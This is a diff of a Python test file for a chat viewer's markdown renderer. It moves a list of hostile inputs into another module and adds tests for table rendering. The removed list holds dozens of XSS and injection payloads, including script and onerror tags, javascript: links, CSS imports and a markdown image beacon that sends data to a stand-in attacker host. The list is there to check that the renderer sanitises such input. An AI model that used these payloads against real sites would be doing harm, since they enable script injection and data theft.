@@ -11,6 +11,7 @@ from hypothesis import given, settings
 from hypothesis import strategies as st
 
 from tests.conftest import kept_in_caches
+from tests.hostile import PAYLOADS
 from viewer.completions.types import Citation
 from viewer.conversations import prose
 from viewer.conversations.code_colours import _BY_NAME, colour
@@ -30,48 +31,6 @@ ALLOWED = {
 BARE = (
     "p br hr em strong del ul li blockquote h4 h5 h6 table thead tbody tr figcaption copy-code".split()  # noqa: SIM905
 )
-PAYLOADS = [
-    "<script>alert(1)</script>", "<img src=x onerror=alert(1)>",
-    '<img srcset="https://evil.example/1.png 1x" src="//evil.example/2.png">', "<svg/onload=alert(1)>",
-    "<svg><script>alert(1)</script><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
-    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
-    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
-    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
-    "<style>@import url(https://evil.example/x.css);*{background:url(//evil.example)}</style>",
-    '<p style="background:url(https://evil.example/)" class="modal" id="csrf">x</p>',
-    '<link rel="stylesheet" href="https://evil.example/x.css"><link rel=preload href=//evil.example as=image>',
-    '<base href="https://evil.example/">', '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
-    '<form action="https://evil.example/"><input name=q autofocus onfocus=alert(1)><button formaction=x>go</button></form>',
-    '<iframe src="javascript:alert(1)" srcdoc="<script>alert(1)</script>"></iframe>',
-    '<object data="data:text/html,x"></object><embed src=x><video poster=//evil.example><audio src=//evil.example>',
-    '<div hx-post="/keys/1/delete" hx-trigger="load" hx-on:load="alert(1)" data-hx-get="/x">x</div>',
-    '<a href="javascript:alert(1)" data-citation hx-get="/x" ping="//evil.example" download>x</a>',
-    '<a href="jav&#x09;ascript:alert(1)">x</a><a href=" javascript:alert(1)">y</a><a href="//evil.example">z</a>',
-    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a><a href="vbscript:x">y</a><a href="/keys/">z</a>',
-    "<details open ontoggle=alert(1)><summary>x</summary></details><dialog open>x</dialog><copy-text><input></copy-text>",
-    '<template><script>alert(1)</script></template><slot name="x"></slot><custom-thing onclick=x></custom-thing>',
-    '<figure class="code evil" onclick=x><pre tabindex="5" id=x><code class="language-python evil">a</code></pre>',
-    "<!-- <script>alert(1)</script> --!><![CDATA[<script>]]><?php echo 1 ?><!DOCTYPE html>", "<plaintext>",
-    "<textarea></textarea><xmp><b>", "<a title='\"><script>alert(1)</script>'>", "</p></div></article><b>",
-    "{{7*7}} {% debug %} ${7*7} <%= 1 %>", "![beacon](https://evil.example/p.png?d=secret)",
-    "![x](//evil.example/p)", "![x](data:image/svg+xml,<svg onload=1>)",
-    "![\"onerror=alert(1) x=\"](x\"onerror=alert(1))", "![![a](https://evil.example/a)](https://evil.example/b)",
-    "[![a](https://evil.example/a)](javascript:alert(1))", "![x][r]\n\n[r]: https://evil.example/p \"t\"",
-    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](javascript&#58;alert(1))",
-    "[x](java\\\nscript:alert(1))", "[x](<java script:alert(1)>)", "[x](data:text/html;base64,PHN=)",
-    "[x](vbscript:x)", "[x](file:///etc/passwd)", "[x](/keys/1/delete)", "[x](//evil.example)", "[x](?delete=1)",
-    "[x](#top)", "[x](https:evil)", "[x](https:\\\\evil)", "[x](http:///evil)", "[x](https://%00)", "[x](https://[)",
-    "[x](mailto:)", "<javascript:alert(1)>", "<data:text/html,x>",
-    "[x]\n\n[x]: javascript:alert(1) 'title\"onclick=x'", "[x](https://a.example \"t\\\" onmouseover=alert(1)\")",
-    "[[x](javascript:alert(1))](https://a.example)", "[a](https://a.example)[b](javascript:x)",
-    "[x](https://a.example/\"onclick=x)", "www.a.example\"onclick=x", "https://a.example/<script>",
-    "<https://a.example/\"onclick=x>", "a@b.example\"onclick=x", "xmpp:a@b.example ftp://a.example tel:123",
-    "```\"><script>alert(1)</script>\nx\n```", "```html\n<script>alert(1)</script>\n```",
-    "```js\n\"</code></pre><script>alert(1)</script>\"\n```", "|<script>|\n|-|\n|<img src=x onerror=y>|",
-    "- [x] <input onfocus=x>", "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62;",
-    "\\(<script>alert(1)</script>\\)", "$$<img src=x>$$", "`<script>|</script>`", "# <svg onload=alert(1)>",
-    "> <script>\n> alert(1)\n> </script>", "<x\n\nonclick=alert(1)>",
-]  # fmt: skip
 NOTE = '<p><span class="image-note">'
 MARKDOWN = """## Plan
 
@@ -229,6 +188,51 @@ def test_a_table_scrolls_by_itself_and_keeps_a_pipe_in_code() -> None:
     assert render_prose("`x|y`\n\n    `x|y`").html.count("x|y") == 2
 
 
+@pytest.mark.parametrize(
+    "text",
+    [
+        "|a|b|\n|-|-|\n|1|2|3|4|\n|5|",
+        "a|b\n:-|-\n1|2|3",
+        "|a|\r\n|-|\r\n|1|2|",
+        "> |a|\n> |-|\n> |1|2|\n>\n> |b|\n> |-|\n> |3|4|",
+        "- |a|\n  |-|\n  |1|2|",
+        "|a|\n|-|\n|1|\n# h\n|b|\n|-|\n|2|3|",
+        "|a|b\\|\n|-|-|\n|1|2\\||3|",
+        "|a|\n|-|\n|1|2|\n|-|-|-|\n|3|4|",
+        "|a|`x|y`|\n|-|-|\n|1|2|3|",
+        "```\n|a|\n|-|\n|1|2|\n```\n\n|b|\n|-|\n|3|4|",
+    ],
+)
+def test_a_row_that_is_wider_than_its_table_keeps_its_cells(text: str) -> None:
+    drawn = render_prose(text).html
+    assert re.findall(r"\w", "".join(Text(drawn).pieces).removeprefix("code")) == re.findall(r"\w", text)
+    assert ("<table>" in drawn) is not text.startswith("`")  # then all stands as it was written
+    assert drawn.isascii()
+
+
+@settings(deadline=None, max_examples=300)
+@given(
+    st.lists(
+        st.sampled_from(["|", "a", "b ", "-", ":-|", "|-|", "\n", "\n\n", "> ", "- ", "`a|b`", "\\", "\r\n", "    "])
+    )
+)
+def test_no_cell_of_any_table_is_dropped(pieces: list[str]) -> None:
+    text = "".join(pieces)
+    assert re.findall("[ab]", "".join(Text(render_prose(text).html).pieces)) == re.findall("[ab]", text)
+
+
+@pytest.mark.parametrize(
+    ("text", "html"),
+    [
+        ("a\n\n<div>b</div>\n\nc", "<p>a</p><p>&lt;div&gt;b&lt;/div&gt;</p><p>c</p>"),
+        ("> # h\n> <b>", "<blockquote><h4>h</h4><p>&lt;b&gt;</p></blockquote>"),
+        ("<p>\n\n---\n<p>", "<p>&lt;p&gt;</p><hr><p>&lt;p&gt;</p>"),
+    ],
+)
+def test_a_block_of_raw_html_is_a_paragraph(text: str, html: str) -> None:
+    assert render_prose(text).html == html
+
+
 @pytest.mark.parametrize("language", sorted(_BY_NAME))
 @settings(deadline=None, max_examples=20)
 @given(st.text(alphabet=st.sampled_from("ab1 \n\"'`#/*-<>!{}\\:=.$@&;"), max_size=60))
@@ -268,8 +272,8 @@ def test_a_table_that_would_fill_megabytes_is_no_table() -> None:
 REPEATED = [
     "[", "]", "(", "[a](", "](", "![", "![a](", "[[a]]", "[a][b]", "[a]: b\n", "*", "**", "*a ", "**a", "_a ", "*a_",
     "a**b c* ", "`", "`` ", "```\n", "~~a", ">", "> ", "> - ", "- ", "- a\n", "1. a\n", "# a\n", "|",
-    "|a|b|\n|-|-|\n", "<", "<a ", "<!--", "&", "&amp;", "\\", "\\(", "\\[a", "www.", "http://a.b ", "<http:",
-    "a@b.c ", "\n", " ", "\t", "x", "\u202e", "\U000e0069", "`|", "`a|b` ", "[a](b \"", "[a](http://x.y)",
+    "|a|b|\n|-|-|\n", "|-\n", "|a|\n|-|\n|b|c|\n\n", "<", "<a ", "<!--", "&", "&amp;", "\\", "\\(", "\\[a", "www.",
+    "http://a.b ", "<http:", "a@b.c ", "\n", " ", "\t", "x", "\u202e", "\U000e0069", "`|", "`a|b` ", "[a](b \"", "[a](http://x.y)",
     "([a.b](http://x.y))", "![a](http://x.y)", "\U000f0000", "%F3%B0%80%80",
 ]  # fmt: skip
 CODE = [
